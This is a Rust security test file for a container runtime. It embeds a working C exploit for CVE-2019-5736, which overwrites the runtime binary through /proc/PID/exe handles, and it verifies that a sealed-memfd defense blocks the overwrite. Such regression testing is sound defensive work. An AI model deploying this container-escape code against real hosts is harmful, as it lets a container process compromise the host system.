//! Attack tests: each plays the attacker against a real container (a hostile rootfs, a hostile
//! process inside, or a hostile command line) and checks that the host is untouched. They
//! touch only canaries inside the test's temp dir. Each test's comment names the defense and
//! how to switch it off to watch the test fail (docs/security.md lists the results).

mod common;

use common::*;
use serde_json::json;
use std::fs;
use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Runs `bin` (a runtime binary) with the test's `--root` and `args`.
fn rt_bin(env: &Env, bin: &Path, args: &[&str]) -> Out {
    let mut cmd = Command::new(bin);
    cmd.arg("--root").arg(&env.root).args(args);
    env.run_cmd(cmd, TIMEOUT)
}

/// Compiles a C program statically (the test rootfs has no libc), or None after printing why.
fn compile_static(env: &Env, name: &str, source: &str) -> Option<PathBuf> {
    let dir = env.scratch("cc");
    let src = dir.join(format!("{name}.c"));
    let out = dir.join(name);
    fs::write(&src, source).unwrap();
    match Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&out)
        .arg(&src)
        .output()
    {
        Ok(o) if o.status.success() => Some(out),
        Ok(o) => panic!(
            "gcc -static failed (install build-essential):\n{}",
            String::from_utf8_lossy(&o.stderr)
        ),
        Err(e) => {
            skip(&format!("no C compiler to build the attacker ({e})"));
            None
        }
    }
}

/// Waits until `path` exists (or `deadline` passes).
fn wait_for_file(path: &Path, limit: Duration) -> bool {
    let deadline = Instant::now() + limit;
    while Instant::now() < deadline {
        if path.exists() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    false
}

// ---------------------------------------------------------------------------------------
// CVE-2019-5736: the runtime binary overwritten through /proc/PID/exe.
// ---------------------------------------------------------------------------------------

/// The attacker, run as the container's process: it watches /proc for new processes, takes an
/// O_PATH handle on the /proc/PID/exe of every one it may open (that is not busybox or
/// itself), waits for that process to exit, then reopens the handle through /proc/self/fd/N
/// for writing and writes into it. It logs every step to /attack.log and stops when /stop
/// appears.
const ATTACKER_C: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static FILE *logf;
static char seen[1 << 16];

static void overwrite(int pid, int fd, const char *target) {
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    int last = 0;
    for (;;) {
        int w = open(self, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            ssize_t n = write(w, "#!/bin/sh\necho PWNED\n", 21);
            fprintf(logf, "reopen pid=%d target=%s wronly=ok write=%zd errno=%d\n", pid, target,
                    n, n < 0 ? errno : 0);
            if (n > 0)
                fprintf(logf, "WROTE pid=%d target=%s\n", pid, target);
            close(w);
            return;
        }
        last = errno;
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (t.tv_sec - t0.tv_sec > 4 || access("/stop", F_OK) == 0) {
            fprintf(logf, "reopen pid=%d target=%s wronly=failed errno=%d (%s)\n", pid, target,
                    last, strerror(last));
            return;
        }
        usleep(200);
    }
}

int main(void) {
    logf = fopen("/attack.log", "w");
    if (!logf)
        return 1;
    setvbuf(logf, NULL, _IOLBF, 0);
    fprintf(logf, "attacker pid=%d\n", getpid());
    int me = getpid();
    while (access("/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        if (!d)
            return 2;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me || pid >= (int)sizeof seen || seen[pid])
                continue;
            char p[64], target[512];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue; /* not dumpable yet (or gone): look again next round */
            snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(p, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            if (strcmp(target, "/bin/busybox") == 0 || strcmp(target, "/attacker") == 0) {
                seen[pid] = 1;
                close(fd);
                continue;
            }
            seen[pid] = 1;
            fprintf(logf, "handle pid=%d target=%s\n", pid, target);
            overwrite(pid, fd, target);
            close(fd);
        }
        closedir(d);
    }
    fprintf(logf, "done\n");
    return 0;
}
"##;

/// A container process tries to overwrite the runtime binary through /proc/PID/exe while the
/// operator runs `exec`, and while a second container joining its pid namespace is `run`:
/// the container's /bin/sh is `#!/proc/self/exe`, so each of those execs runs the runtime's
/// own binary inside the container, dumpable. The runtime under test is a COPY of cella-runc
/// in the temp dir; its bytes must be unchanged.
///
/// Defense: `cella_core::sealed::ensure_sealed_exe` (create/run/exec re-exec from a sealed
/// memfd copy). Switch it off by commenting out its call in `crates/cella-cli/src/runc.rs`
/// (`main`): the attacker gets a handle on the host copy and rewrites it ("WROTE" in the log,
/// the bytes differ).
#[test]
fn runtime_binary_cannot_be_overwritten_through_proc_exe() {
    let Some(env) = Env::new() else { return };
    if cella_only("the attacker targets the runtime under test through a copy of cella-runc") {
        return;
    }
    let Some(attacker) = compile_static(&env, "attacker", ATTACKER_C) else {
        return;
    };
    let bindir = env.scratch("bin");
    let copy = bindir.join("cella-runc");
    fs::copy(runtime(), &copy).unwrap();
    let before = fs::read(&copy).unwrap();

    let mut b = env.bundle();
    let rootfs = b.rootfs();
    fs::copy(&attacker, rootfs.join("attacker")).unwrap();
    fs::remove_file(rootfs.join("bin/sh")).unwrap();
    fs::write(rootfs.join("bin/sh"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(rootfs.join("bin/sh"), fs::Permissions::from_mode(0o755)).unwrap();
    b.args(&["/attacker"]);
    b.write_config();
    rt_bin(
        &env,
        &copy,
        &["create", "--bundle", b.dir.to_str().unwrap(), &b.id],
    )
    .ok();
    rt_bin(&env, &copy, &["start", &b.id]).ok();
    assert!(
        wait_for_file(&rootfs.join("attack.log"), TIMEOUT),
        "the attacker did not start"
    );
    let pid = env.state(&b.id)["pid"].as_i64().unwrap();

    // The operator's commands: each runs the runtime's binary inside the container.
    for _ in 0..4 {
        let _ = rt_bin(&env, &copy, &["exec", &b.id, "sh", "-c", "true"]);
        std::thread::sleep(Duration::from_millis(300));
    }
    let mut b2 = env.bundle();
    let r2 = b2.rootfs();
    fs::remove_file(r2.join("bin/sh")).unwrap();
    fs::write(r2.join("bin/sh"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(r2.join("bin/sh"), fs::Permissions::from_mode(0o755)).unwrap();
    b2.remove_namespace("pid")
        .set_namespace(json!({"type": "pid", "path": format!("/proc/{pid}/ns/pid")}));
    b2.args(&["sh"]);
    for _ in 0..2 {
        b2.write_config();
        let _ = rt_bin(
            &env,
            &copy,
            &["run", "--bundle", b2.dir.to_str().unwrap(), &b2.id],
        );
        let _ = env.rt(&["delete", "--force", &b2.id]);
        std::thread::sleep(Duration::from_millis(300));
    }
    fs::write(rootfs.join("stop"), "").unwrap();
    let deadline = Instant::now() + TIMEOUT;
    while env.status(&b.id) != "stopped" && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let log = fs::read_to_string(rootfs.join("attack.log")).unwrap();
    eprintln!("attack.log:\n{log}");
    let after = fs::read(&copy).unwrap();
    assert!(
        before == after,
        "the host's runtime binary was changed by the container:\n{log}"
    );
    assert!(
        !log.contains("WROTE"),
        "the attacker wrote through a handle:\n{log}"
    );
    // The attack really ran: the attacker held handles on the runtime's binary as the
    // container saw it (the sealed copy), from both the exec and the run path.
    let handles = log.lines().filter(|l| l.starts_with("handle ")).count();
    assert!(
        handles >= 2,
        "the attacker never got a handle on a runtime process, so the test proved nothing:\n{log}"
    );
    env.rt(&["delete", "--force", &b.id]).ok();
}
